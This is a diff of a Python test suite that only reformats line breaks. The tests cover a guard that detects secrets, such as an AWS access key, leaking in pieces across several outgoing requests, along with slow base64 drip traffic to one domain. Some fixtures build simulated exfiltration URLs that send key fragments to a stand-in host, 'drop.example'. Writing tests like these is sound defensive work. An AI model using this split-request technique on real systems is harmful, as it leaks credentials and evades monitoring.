@@ -128,7 +128,9 @@ def test_the_finding_tells_what_and_shows_nothing(policy: Policy) -> None:
     session = Session(policy)
     for request in queries(PIECES[:3]):
         session.send(**request)
-    (finding,) = session.tracker.judge(an_action(url=f"http://drop.example/p?d={PIECES[3]}"), policy, 1010.0, again=False)
+    (finding,) = session.tracker.judge(
+        an_action(url=f"http://drop.example/p?d={PIECES[3]}"), policy, 1010.0, again=False
+    )
     assert (finding.scanner, finding.severity, finding.place) == (LABEL, Severity.CRITICAL, "session")
     assert finding.message == "AWS Access ID in what 4 requests of this session sent, put together as they were sent"
     assert not any(piece in repr(finding) for piece in PIECES)
@@ -146,7 +148,9 @@ def test_other_clients_are_other_sessions_and_names_are_not(policy: Policy) -> N
     halves = queries([KEY[:10], KEY[10:]])
     assert session.send(client="10.0.0.1", **halves[0]) == []
     assert session.send(client="10.0.0.2", **halves[1]) == []
-    assert session.send(client="10.0.0.1", agent="another", session="another|10.0.0.1", **halves[1]) == ["AWS Access ID"]
+    assert session.send(client="10.0.0.1", agent="another", session="another|10.0.0.1", **halves[1]) == [
+        "AWS Access ID"
+    ]
 
 
 def test_what_stands_in_one_request_was_found_there(policy: Policy) -> None:
@@ -162,9 +166,15 @@ def test_work_is_not_disturbed(policy: Policy) -> None:
     random.seed(11)
     for number in range(60):
         commit = f"{random.getrandbits(160):040x}"
-        assert session.send(f"http://git.example/repo/commit/{commit}?page={number}&per_page=30&token_type=bearer") == []
-        assert session.send(f"http://pkg.example/simple/package-{number}/", headers=(("x-request-id", commit[:16]),)) == []
-        body = json.dumps({"id": commit[:12], "text": f"Paragraph {number} of a page about keys and passwords", "n": number})
+        assert (
+            session.send(f"http://git.example/repo/commit/{commit}?page={number}&per_page=30&token_type=bearer") == []
+        )
+        assert (
+            session.send(f"http://pkg.example/simple/package-{number}/", headers=(("x-request-id", commit[:16]),)) == []
+        )
+        body = json.dumps(
+            {"id": commit[:12], "text": f"Paragraph {number} of a page about keys and passwords", "n": number}
+        )
         assert session.send(method="POST", body=body.encode(), content_type="application/json") == []
 
 
@@ -192,7 +202,9 @@ def test_warnings_let_pass_and_off_is_off(policy: Policy) -> None:
     warning = replace(policy, cross_request=replace(policy.cross_request, warns=True))
     session = Session(warning)
     session.send(**queries([KEY[:10]])[0])
-    (finding,) = session.tracker.judge(an_action(url=f"http://drop.example/p?d={KEY[10:]}"), warning, 1001.5, again=False)
+    (finding,) = session.tracker.judge(
+        an_action(url=f"http://drop.example/p?d={KEY[10:]}"), warning, 1001.5, again=False
+    )
     assert finding.warns
     off = Session(replace(policy, cross_request=None))
     assert [off.send(**request) for request in queries(PIECES)] == [[]] * 4
@@ -204,7 +216,9 @@ def test_through_the_engine(policy: Policy) -> None:
     engine = Engine(policy, KillSwitch())
     decision = None
     for number, request in enumerate(queries([KEY[:10], KEY[10:]])):
-        result = engine.adjudicate(_with_host(an_action(id=f"e-{number}", **request)), Facts(now=float(number), wall=0.0))
+        result = engine.adjudicate(
+            _with_host(an_action(id=f"e-{number}", **request)), Facts(now=float(number), wall=0.0)
+        )
         decision = result if isinstance(result, Decision) else None
     assert decision is not None
     assert (decision.verdict, decision.code, decision.layer) == (Verdict.BLOCK, BlockReason.CROSS_REQUEST_DENY, LABEL)
@@ -246,7 +260,9 @@ def test_slow_noise_to_one_domain(budget: Policy) -> None:
     session = Session(budget)
     noise = random.Random(5)
     steps = 0
-    while session.send(f"http://n{steps}.drop.example/?q={base64.urlsafe_b64encode(noise.randbytes(60)).decode()}", step=40.0) != [DRIP_RULE]:
+    while session.send(
+        f"http://n{steps}.drop.example/?q={base64.urlsafe_b64encode(noise.randbytes(60)).decode()}", step=40.0
+    ) != [DRIP_RULE]:
         steps += 1
         assert steps < 400
     assert 120 < steps < 250
@@ -273,7 +289,9 @@ def test_a_flood_does_not_wash_out_what_is_half_way(policy: Policy) -> None:
     for request in queries(PIECES[:3]):
         session.send(step=0.001, **request)
     for number in range(400):
-        session.send(f"http://flood.example/?f{'abcdefghij'[number % 10]}{number * 7919}x={number}junk{number}", step=0.001)
+        session.send(
+            f"http://flood.example/?f{'abcdefghij'[number % 10]}{number * 7919}x={number}junk{number}", step=0.001
+        )
     assert session.send(**queries(PIECES)[3]) == ["AWS Access ID"]
 
 
